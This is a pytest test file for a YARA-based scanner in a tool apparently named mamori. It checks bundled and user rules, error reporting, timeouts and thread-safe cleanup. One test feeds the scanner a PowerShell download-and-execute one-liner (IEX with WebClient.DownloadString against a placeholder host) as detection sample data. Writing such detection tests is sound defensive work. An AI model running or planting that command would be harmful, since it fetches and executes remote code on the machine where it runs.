from __future__ import annotations

import gc
import sys
import threading

import pytest

from mamori.errors import RuleError, ScanError
from mamori.scan.base import ScanItem, ScanOptions
from mamori.scan.scanners.eicar import EICAR
from mamori.scan.scanners.yara import YaraScanner
from mamori.scan.verdict import Category


def test_bundled_rules():
    scanner = YaraScanner.from_options(ScanOptions())
    assert scanner is not None
    assert [r.detail for r in scanner.scan(ScanItem(EICAR))] == ["YARA:Mamori_EICAR_Test_File"]
    ps = b"powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\""
    assert [r.detail for r in scanner.scan(ScanItem(ps))] == [
        "YARA:Mamori_PowerShell_Download_Execute"
    ]
    assert scanner.scan(ScanItem(b"<html><body>hello</body></html>")) == []


def test_user_rules_with_category(tmp_path):
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "p.yara").write_text(
        'rule Confidential { meta: category = "policy" strings: $a = "社外秘" condition: $a }',
        encoding="utf-8",
    )
    scanner = YaraScanner.from_options(ScanOptions(yara_rule_dirs=(tmp_path,), builtin_rules=False))
    assert scanner is not None
    (reason,) = scanner.scan(ScanItem("この資料は社外秘です".encode()))
    assert reason.category is Category.POLICY


def test_compile_errors_name_file_and_line(tmp_path):
    (tmp_path / "bad.yar").write_text("rule ok { condition: true }\nrule { x", encoding="utf-8")
    with pytest.raises(RuleError) as info:
        YaraScanner.from_options(ScanOptions(yara_rule_dirs=(tmp_path,)))
    assert info.value.location is not None
    assert info.value.location.path.endswith("bad.yar")
    assert info.value.location.line == 2


def test_missing_rule_dir(tmp_path):
    with pytest.raises(RuleError):
        YaraScanner.from_options(ScanOptions(yara_rule_dirs=(tmp_path / "nope",)))


def test_no_rules_means_not_configured():
    assert YaraScanner.from_options(ScanOptions(builtin_rules=False)) is None


def test_timeout_is_a_scan_error(tmp_path):
    (tmp_path / "slow.yar").write_text(
        "rule Slow { condition: for all i in (0..filesize) : "
        "( for all j in (0..filesize) : ( uint8(i) != uint8(j) or i == j or true ) ) }",
        encoding="utf-8",
    )
    scanner = YaraScanner.from_options(
        ScanOptions(yara_rule_dirs=(tmp_path,), builtin_rules=False, yara_timeout=1)
    )
    assert scanner is not None
    with pytest.raises(ScanError, match="timed out"):
        scanner.scan(ScanItem(b"a" * 200_000))


def test_dropping_the_scanner_frees_nothing_on_a_foreign_thread(monkeypatch):
    """A policy reload drops a YaraScanner while the threads that scanned with it live on;
    their yara_x.Scanner objects must not be freed on the dropping thread (yara-x refuses)."""
    unraisable: list[str] = []
    monkeypatch.setattr(sys, "unraisablehook", lambda u: unraisable.append(str(u.exc_value)))
    first = YaraScanner.from_options(ScanOptions())
    assert first is not None
    live = [first]
    del first
    scanned, release = threading.Event(), threading.Event()
    found: list[str] = []

    def worker() -> None:
        found.extend(r.detail for r in live[0].scan(ScanItem(EICAR)))
        scanned.set()
        release.wait(10)
        replacement = YaraScanner.from_options(ScanOptions())  # frees the dead one's here
        assert replacement is not None
        found.extend(r.detail for r in replacement.scan(ScanItem(EICAR)))

    thread = threading.Thread(target=worker)
    thread.start()
    assert scanned.wait(10)
    live.clear()
    gc.collect()
    release.set()
    thread.join(10)
    assert unraisable == []
    assert found == ["YARA:Mamori_EICAR_Test_File"] * 2
